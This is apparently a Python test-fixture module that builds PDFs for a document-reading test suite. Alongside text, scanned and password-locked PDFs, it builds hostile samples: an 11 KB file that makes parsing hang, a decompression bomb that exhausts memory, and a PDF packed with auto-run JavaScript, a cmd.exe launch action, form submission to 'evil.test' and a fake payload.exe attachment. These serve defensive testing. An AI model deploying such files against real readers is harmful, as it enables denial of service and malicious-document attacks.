"""Documents for the reading tests and the evidence bench, made here (nothing binary checked
in): text PDFs, scans (an image of text, as PNG, JPG or an image-only PDF), a password-protected
PDF, and issue 30's hostile PDF (11 KB, two pages each drawing a 990,000-operator form 5,000 times)."""

from __future__ import annotations

import io
import subprocess
import tempfile
import zlib
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas


def text_pdf(path: Path, pages: list[list[str]]) -> Path:
    """A PDF with a text layer: each page its lines, top to bottom."""
    c = canvas.Canvas(str(path), pagesize=A4, invariant=True)
    for lines in pages:
        y = 780
        for line in lines:
            c.setFont("Helvetica", 14)
            c.drawString(60, y, line)
            y -= 24
        c.showPage()
    c.save()
    return path


def table_pdf(
    path: Path, title: list[str], rows: list[tuple[str, str]], by_column: bool = False
) -> Path:
    """A PDF of a carrier's label/value table: title lines, then each label with its value
    beside it in a second column (as a two-column form prints them); `by_column`: written
    column by column (`columns_pdf`)."""
    c = canvas.Canvas(str(path), pagesize=A4, invariant=True)
    y = 780
    for line in title:
        c.setFont("Helvetica-Bold", 16)
        c.drawString(60, y, line)
        y -= 28
    c.setFont("Helvetica", 13)
    cells = [(r, k) for r in range(len(rows)) for k in (0, 1)]
    for r, k in sorted(cells, key=lambda cell: cell[::-1]) if by_column else cells:
        c.drawString(60 + 190 * k, y - 24 * r, rows[r][k])
    c.showPage()
    c.save()
    return path


def columns_pdf(path: Path, title: list[str], rows: list[tuple[str, str]]) -> Path:
    """A carrier's label/value table written column by column, as many ePOD generators write
    it (Blue Dart's among them): every label top to bottom, then every value top to bottom, so
    a PDF's text comes out as N labels, then N values; each value on its label's row."""
    return table_pdf(path, title, rows, by_column=True)


def page_png(pdf: Path, dpi: int) -> bytes:
    """The PDF's first page as a grey PNG (pdftoppm), as a scanner or a screenshot gives it."""
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run(["pdftoppm", "-r", str(dpi), "-png", "-singlefile", "-gray", str(pdf),
                        str(Path(tmp) / "page")], check=True)  # fmt: skip
        return (Path(tmp) / "page.png").read_bytes()


def scan_png(
    path: Path,
    lines: list[str],
    dpi: int = 200,
    table: list[tuple[str, str]] | None = None,
    columns: bool = False,
) -> Path:
    """An image of the lines (a photo or scan of a paper document): no text layer at all;
    with `table`, the lines are a title over that label/value table (`columns`: written column
    by column, as `columns_pdf`; the image is the same, what OCR makes of it may differ)."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "src.pdf"
        if table is None:
            pdf = text_pdf(src, [lines])
        else:
            pdf = (columns_pdf if columns else table_pdf)(src, lines, table)
        data = page_png(pdf, dpi)
    if path.suffix.lower() in (".jpg", ".jpeg"):
        from PIL import Image

        Image.open(io.BytesIO(data)).convert("L").save(path, "JPEG", quality=90)
    else:
        path.write_bytes(data)
    return path


def checkout_png(path: Path, clause: str, dpi: int = 150) -> Path:
    """A checkout page's screenshot: the order summary, and a ticked box before `clause`
    ("I agree to the Terms of Service …"), as a shop prints where its terms are accepted."""
    with tempfile.TemporaryDirectory() as tmp:
        pdf = Path(tmp) / "checkout.pdf"
        c = canvas.Canvas(str(pdf), pagesize=A4, invariant=True)
        c.setFont("Helvetica-Bold", 16)
        c.drawString(60, 780, "Checkout")
        c.setFont("Helvetica", 13)
        c.drawString(60, 750, "Order summary: 1 x Trail Shoe 129.00 USD")
        c.rect(60, 716, 12, 12)
        c.setLineWidth(2)
        c.lines([(62, 722, 66, 717), (66, 717, 71, 727)])  # the tick
        c.drawString(80, 718, clause)
        c.showPage()
        c.save()
        path.write_bytes(page_png(pdf, dpi))
    return path


def scan_pdf(path: Path, lines: list[str]) -> Path:
    """An image-only PDF (a scanner's output): one page, the image of the lines."""
    with tempfile.TemporaryDirectory() as tmp:
        png = scan_png(Path(tmp) / "scan.png", lines)
        c = canvas.Canvas(str(path), pagesize=A4, invariant=True)
        width, height = A4
        c.drawImage(str(png), 0, 0, width, height)
        c.showPage()
        c.save()
    return path


def locked_pdf(path: Path, lines: list[str], password: str = "s3cret") -> Path:
    """A PDF that asks for a password to open."""
    plain = text_pdf(path.with_suffix(".plain.pdf"), [lines])
    writer = PdfWriter()
    for page in PdfReader(str(plain)).pages:
        writer.add_page(page)
    writer.encrypt(user_password=password, owner_password=password + "!", algorithm="RC4-128")
    with path.open("wb") as fh:
        writer.write(fh)
    plain.unlink()
    return path


def hang_pdf(path: Path, operators: int = 990_000, draws: int = 5_000) -> Path:
    """Issue 30's PDF: two pages, each drawing one form XObject `draws` times; the form holds
    `operators` operators. Compressed, the whole file is about 11 KB; pypdf's text extraction
    walks the form on every draw (about 10^10 operators)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 7 0 R >> "
        b"/XObject << /F0 5 0 R >> >> /Contents 6 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 7 0 R >> "
        b"/XObject << /F0 5 0 R >> >> /Contents 6 0 R >>",
        _flate(b"0 Tc\n" * operators,
               b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 7 0 R >> >> "),
        _flate(b"/F0 Do\n" * draws),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]  # fmt: skip
    path.write_bytes(_pdf_file(objects))
    return path


def _flate(data: bytes, head: bytes = b"") -> bytes:
    """A stream object holding `data` compressed, its dictionary opening with `head`."""
    packed = zlib.compress(data, 9)
    return b"<< %b/Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (
        head,
        len(packed),
        packed,
    )


def _pdf_file(objects: list[bytes]) -> bytes:
    """A PDF file of `objects` (numbered from 1, the first the catalog) and its xref table."""
    out = bytearray(b"%PDF-1.5\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def memory_pdf(path: Path, operators: int = 1_000_000) -> Path:
    """One page whose content stream (~100 KB compressed) inflates to ~33 MB of text-showing
    operators: pypdf's parse of them needs far more memory than that, so a reader with a small
    memory budget (128 MB) runs out of it within a second, long before its clock."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> "
        b">> /Contents 4 0 R >>",
        _flate(b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" * operators),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    path.write_bytes(_pdf_file(objects))
    return path


def pdf_of(pages: int, label: str) -> bytes:
    """A PDF of `pages` pages, each saying "<label> page <n>" (the same bytes every time)."""
    buf = io.BytesIO()
    pdf = canvas.Canvas(buf, pagesize=A4, invariant=1)
    for i in range(pages):
        pdf.drawString(72, 720, f"{label} page {i + 1}")
        pdf.showPage()
    pdf.save()
    return buf.getvalue()


def active_pdf(pages: int = 2, label: str = "ACTIVE") -> bytes:
    """Issue 39's hostile PDF: `pdf_of(pages, label)` carrying every kind of active content a
    viewer may run, launch, fetch or submit: an /OpenAction script, the document's and each
    page's /AA, a /JavaScript name tree, an embedded file (and a file attachment annotation),
    links that launch, open a URI and submit a form, an outline item opening a URI, and an
    AcroForm with an XFA form and a field whose /AA runs a script."""
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def name(n: str) -> NameObject:
        return NameObject(n)

    def action(kind: str, **extra: object) -> DictionaryObject:
        d = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
        d.update({name("/" + k): v for k, v in extra.items()})  # type: ignore[misc]
        return d

    script = action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.test');"))
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    uri = action("/URI", URI=TextStringObject("https://evil.test/x"))
    submit = action("/SubmitForm", F=TextStringObject("https://evil.test/form"))
    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of(pages, label))))
    w.add_attachment("payload.exe", b"MZ\x90\x00 not a real program")
    root = w._root_object
    root[name("/OpenAction")] = w._add_object(script)
    root[name("/AA")] = DictionaryObject({name("/WC"): w._add_object(action("/Launch"))})
    root["/Names"][name("/JavaScript")] = DictionaryObject(  # type: ignore[index]
        {name("/Names"): ArrayObject([TextStringObject("init"), w._add_object(script)])}
    )
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><template><script>evil()</script></template></xdp:xdp>")
    rect = ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)])
    field = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"),
                              name("/FT"): name("/Tx"), name("/T"): TextStringObject("f"),
                              name("/Rect"): rect, name("/P"): w.pages[0].indirect_reference,
                              name("/AA"): DictionaryObject({name("/K"): script})})  # fmt: skip
    field_ref = w._add_object(field)
    root[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([field_ref]), name("/XFA"): w._add_object(xfa)}
    )
    attach = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/FileAttachment"),
                               name("/Rect"): rect, name("/FS"): DictionaryObject({
                                   name("/Type"): name("/Filespec"), name("/F"): TextStringObject("a.exe"),
                                   name("/EF"): DictionaryObject({name("/F"): w._add_object(xfa)})})})  # fmt: skip
    for page in w.pages:
        page[name("/AA")] = DictionaryObject({name("/O"): launch, name("/C"): script})
        links = [DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
                                   name("/Rect"): rect, name("/A"): a})
                 for a in (launch, uri, submit)]  # fmt: skip
        page[name("/Annots")] = ArrayObject([w._add_object(x) for x in (*links, attach)])
    page[name("/Annots")].append(field_ref)  # type: ignore[attr-defined]
    outline = w.add_outline_item("Open me", 0)
    outline.get_object()[name("/A")] = uri  # type: ignore[index]
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def heavy_pdf(label: str, size: int) -> bytes:
    """A one-page PDF saying "<label> page 1" of about `size` bytes: the page's resources hold
    an unused form of random bytes, which neither compresses nor is recompressed (the same
    bytes every time)."""
    import random

    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of(1, label))))
    pad = StreamObject()
    pad.set_data(random.Random(label).randbytes(size))
    pad.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                NameObject("/BBox"): ArrayObject([NumberObject(0)] * 4)})  # fmt: skip
    resources = w.pages[0]["/Resources"].get_object()  # type: ignore[union-attr]
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Pad"): w._add_object(pad)})
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()
